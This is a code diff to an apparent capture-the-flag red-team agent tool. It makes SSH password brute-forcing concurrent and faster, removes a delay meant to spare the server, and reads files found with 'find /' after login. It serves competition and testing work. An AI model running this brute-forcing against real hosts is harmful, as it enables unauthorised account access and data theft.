@@ -5,12 +5,13 @@ CTF Red Agent Tools - Password brute force competitor
 
 import json
 import time
+import asyncio
 import agentbeats as ab
 from typing import Dict, Any, Optional
 import os
 
 # Import SDK utilities
-from agentbeats.utils.commands import SSHClient
+from agentbeats.utils.commands import AsyncSSHClient, check_passwords_async
 from agentbeats.utils.agents import send_message_to_agent
 from agentbeats.logging import BattleContext, record_battle_event, record_agent_action
 
@@ -136,7 +137,7 @@ async def _try_ssh_password(password: str) -> str:
                 "port": challenge_info["ssh_port"]
             }
             
-            ssh_client = SSHClient(challenge_info["ssh_host"], credentials)
+            ssh_client = AsyncSSHClient(challenge_info["ssh_host"], credentials)
         
         # Try to connect with the password
         print(f"Trying password: {password}")
@@ -145,14 +146,16 @@ async def _try_ssh_password(password: str) -> str:
         ssh_client.credentials["password"] = password
         
         # Try to connect
-        if ssh_client.connect():
+        if await ssh_client.connect():
             print(f"✅ Successfully connected with password: {password}")
             
             # Try to find and read the flag file
             print("Searching for flag file...")
             
             # First, try to find flag files
-            find_result = ssh_client.execute("find / -name '*flag*' -type f 2>/dev/null")
+            # bounded: a full-disk find can print far more than fits the context
+            find_result = (await ssh_client.run("find / -name '*flag*' -type f 2>/dev/null",
+                                                timeout=60, max_output=8192)).to_text()
             print(f"Find result: {find_result}")
             
             # Try common flag locations and scripts
@@ -176,7 +179,7 @@ async def _try_ssh_password(password: str) -> str:
             # First try static flag files
             for location in flag_locations:
                 print(f"Trying location: {location}")
-                flag_result = ssh_client.execute(f"cat {location}")
+                flag_result = await ssh_client.execute(f"cat {location}")
                 print(f"Flag result for {location}: {flag_result}")
                 
                 if flag_result and not flag_result.startswith("Error:") and not "No such file" in flag_result:
@@ -191,7 +194,7 @@ async def _try_ssh_password(password: str) -> str:
             if not flag_content:
                 for script in flag_scripts:
                     print(f"Trying script: {script}")
-                    flag_result = ssh_client.execute(f"python3 {script}")
+                    flag_result = await ssh_client.execute(f"python3 {script}")
                     print(f"Flag result for {script}: {flag_result}")
                     
                     if flag_result and not flag_result.startswith("Error:") and not "No such file" in flag_result:
@@ -275,27 +278,38 @@ async def test_password_list(password_list: str) -> str:
             }
         )
         
-        results = []
+        if not challenge_info:
+            return "No challenge info available. Run handle_challenge_start first."
+        
+        # Try the batch concurrently against the arena, a few attempts per connection;
+        # the first password that works stops the others
+        check = await check_passwords_async(
+            challenge_info["ssh_host"],
+            challenge_info["username"],
+            [str(p) for p in passwords],
+            port=challenge_info["ssh_port"],
+            workers=4
+        )
+        print(f"Tested {check.attempts} passwords in {check.duration:.2f}s "
+              f"({check.attempts_per_second:.1f}/s, {check.connections} connections)")
+        
+        results = [f"Password {i+1}: {password} - {outcome}"
+                   for i, (password, outcome) in enumerate(check.outcomes.items())]
         success_found = False
         
-        for i, password in enumerate(passwords):
-            print(f"Testing password {i+1}/{len(passwords)}: {password}")
-            
-            result = await _try_ssh_password(password)
-            results.append(f"Password {i+1}: {password} - {result}")
-            
-            # If we found the flag, stop
+        # Log in with the password that worked to find and submit the flag
+        if check.password is not None:
+            result = await _try_ssh_password(check.password)
+            results.append(f"Password {check.password} - {result}")
             if "SUCCESS!" in result:
                 success_found = True
                 results.append("🎉 SUCCESS! Stopping password testing.")
-                break
-            
-            # Small delay to avoid overwhelming the server
-            time.sleep(0.5)
         
         summary = {
-            "passwords_tested": len(passwords),
+            "passwords_tested": check.attempts,
             "success_found": success_found,
+            "attempts_per_second": round(check.attempts_per_second, 1),
+            "duration_seconds": round(check.duration, 3),
             "results": results
         }
         